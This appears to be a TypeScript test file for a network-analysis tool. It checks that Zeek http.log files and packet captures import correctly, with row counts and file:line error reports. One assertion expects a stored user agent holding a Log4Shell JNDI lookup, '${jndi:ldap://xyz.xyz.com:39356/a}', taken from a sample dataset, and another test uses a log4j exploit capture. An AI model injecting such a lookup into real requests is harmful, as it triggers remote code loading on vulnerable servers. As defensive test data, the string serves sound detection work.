// `vantage import` of Zeek http.log files and of captures' HTTP requests into http_requests,
// on every backend: auto-detection, counts, bad lines reported as file:line.

import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { importCaptureFiles } from '../../cli/commands/import-capture.js';
import { importFiles } from '../../cli/commands/import.js';
import type { FlowRecord } from '../../core/columns.js';
import { httpRequestTable } from '../../store/http-request-table.js';
import type { Store } from '../../store/store.js';
import { sharedDataPath } from '../../test-support/shared-data.js';
import { testBackends } from '../../test-support/test-backends.js';

const SLIPS = sharedDataPath('zeek-logs/slips-test9-mixed/http.log');
const RITA = sharedDataPath('zeek-logs/rita-proxy-tsv/http.log');
const NDPI = sharedDataPath('pcap-malicious/ndpi/log4j-webapp-exploit.pcap');

function capture() {
  let text = '';
  return { io: { stderr: { write: (t: string) => (text += t) } }, text: () => text };
}

async function count(store: Store, where = '1 = 1'): Promise<number> {
  const [row] = await store.execute(`SELECT count(*) AS n FROM ${httpRequestTable(store)} WHERE ${where}`);
  return Number(row!.n);
}

const TSV_HEAD = [
  '#separator \\x09',
  '#set_separator\t,',
  '#empty_field\t(empty)',
  '#unset_field\t-',
  '#path\thttp',
  '#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tmethod\thost\turi\tuser_agent',
  '#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tstring\tstring\tstring',
].join('\n');

describe.each(testBackends())('Zeek http.log and capture HTTP import on %s', (_name, make) => {
  let dir: string;
  let store: Store;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'vantage-http-import-'));
    store = make(dir);
    await store.open();
  });
  afterAll(async () => {
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  });

  test.skipIf(!SLIPS)('slips test9 http.log (JSON, 516 rows, one jndi string) is told apart and stored', async () => {
    const { io } = capture();
    const summary = await importFiles(store, [SLIPS!], { format: 'auto', strict: true, batch: 100 } as never, io);
    expect(summary.files.map(({ format, read, imported, rejected, flows, requests }) => ({ format, read, imported, rejected, flows, requests }))).toEqual([
      { format: 'zeek-http', read: 516, imported: 516, rejected: 0, flows: 0, requests: 516 },
    ]);
    expect(await count(store, "source = 'zeek-http'")).toBe(516);
    // The one request SOURCES.md names: its user agent holds the lookup.
    const rows = await store.execute(`SELECT uri, user_agent, headers FROM ${httpRequestTable(store)} WHERE user_agent LIKE '%jndi%'`);
    expect(rows).toEqual([{ uri: '/tenant/amp/entityid/BBqRcpR.img?h=16&w=16&m=6&q=60&u=t&o=t&l=f&f=png', user_agent: '${jndi:ldap://xyz.xyz.com:39356/a}', headers: 'Referer: http://www.msn.com/?ocid=iehp' }]);
  });

  test.skipIf(!RITA)('rita proxy http.log (TSV, 407 rows)', async () => {
    const { io } = capture();
    const before = await count(store);
    const summary = await importFiles(store, [RITA!], { format: 'auto', strict: true } as never, io);
    expect(summary.files[0]).toMatchObject({ format: 'zeek-http', read: 407, imported: 407, rejected: 0, requests: 407 });
    expect((await count(store)) - before).toBe(407);
  });

  test.skipIf(!NDPI)('a capture imports its HTTP requests alongside its flows', async () => {
    const { io, text } = capture();
    const before = await count(store, "source = 'pcap'");
    const summary = await importCaptureFiles(store, [NDPI!], { format: 'pcap' }, io);
    // tshark -Y http.request lists three requests in this capture.
    expect(summary.files[0]!.httpRequests).toBe(3);
    expect((await count(store, "source = 'pcap'")) - before).toBe(3);
    expect(text()).toContain(', 3 HTTP requests');
  });

  test('bad lines of an http.log are reported as file:line and counted; good ones are stored', async () => {
    const tsv = join(dir, 'bad-http.log');
    writeFileSync(
      tsv,
      [
        TSV_HEAD,
        '1.0\tC1\t10.0.0.1\t1000\t10.0.0.2\t80\tGET\th\t/ok\tua',
        '1.0\tC2\t10.0.0.999\t1000\t10.0.0.2\t80\tGET\th\t/bad\tua',
        '1.0\tC3\t10.0.0.1\t1000\t10.0.0.2',
        'soon\tC4\t10.0.0.1\t1000\t10.0.0.2\t80\tGET\th\t/bad\tua',
        '2.0\tC5\t10.0.0.1\t1000\t10.0.0.2\t80\tGET\th\t/ok2\tua',
      ].join('\n'),
    );
    const json = join(dir, 'bad-http.json');
    writeFileSync(
      json,
      [
        '{"ts":3.0,"id.orig_h":"10.0.0.3","id.orig_p":1,"id.resp_h":"10.0.0.4","id.resp_p":80,"method":"GET","uri":"/j"}',
        '{"ts":3.0,"id.orig_h":"10.0.0.3","id.orig_p":1,"id.resp_h":"10.0.0.4","id.resp_p":80,"method":"GET"',
        '{"ts":3.0,"id.orig_h":"10.0.0.3","id.orig_p":99999,"id.resp_h":"10.0.0.4","id.resp_p":80,"method":"GET","uri":"/j"}',
      ].join('\n'),
    );
    const { io, text } = capture();
    const before = await count(store);
    const summary = await importFiles(store, [tsv, json], { format: 'auto' } as never, io);
    expect(summary.files.map((f) => [f.format, f.read, f.imported, f.rejected])).toEqual([
      ['zeek-http', 5, 2, 3],
      ['zeek-http', 3, 1, 2],
    ]);
    expect(text().split('\n').filter((l) => l.includes('[IMPORT_RECORD]'))).toEqual([
      `${tsv}:9: bad address in field 'id.orig_h': '10.0.0.999' [IMPORT_RECORD]`,
      `${tsv}:10: truncated line: expected 10 columns, got 5 [IMPORT_RECORD]`,
      `${tsv}:11: bad time in field 'ts': 'soon' [IMPORT_RECORD]`,
      `${json}:2: truncated line: the JSON object is not closed [IMPORT_RECORD]`,
      `${json}:3: value out of range in field 'id.orig_p': '99999' [IMPORT_RECORD]`,
    ]);
    expect((await count(store)) - before).toBe(3);
    await expect(importFiles(store, [tsv], { format: 'auto', strict: true } as never, capture().io)).rejects.toMatchObject({ code: 'IMPORT_RECORD', location: { file: tsv, line: 9 } });
  });
});

test.skipIf(!SLIPS)('without a store, http.log rows are read and counted, and no flows come out', async () => {
  const flows: FlowRecord[] = [];
  const summary = await importFiles({ appendFlows: async (r) => void flows.push(...r) }, [SLIPS!], { format: 'auto' } as never, capture().io);
  expect(summary.files[0]).toMatchObject({ format: 'zeek-http', read: 516, imported: 516, requests: 516, flows: 0 });
  expect(flows).toEqual([]);
});

test.skipIf(!sharedDataPath('zeek-logs/slips-test9-mixed/conn.log'))('a conn.log next to it still imports as flows', async () => {
  const flows: FlowRecord[] = [];
  const summary = await importFiles({ appendFlows: async (r) => void flows.push(...r) }, [sharedDataPath('zeek-logs/slips-test9-mixed/conn.log')!], { format: 'auto' } as never, capture().io);
  expect(summary.files[0]!.format).toBe('zeek-json');
  expect(summary.files[0]!.requests).toBeUndefined();
});
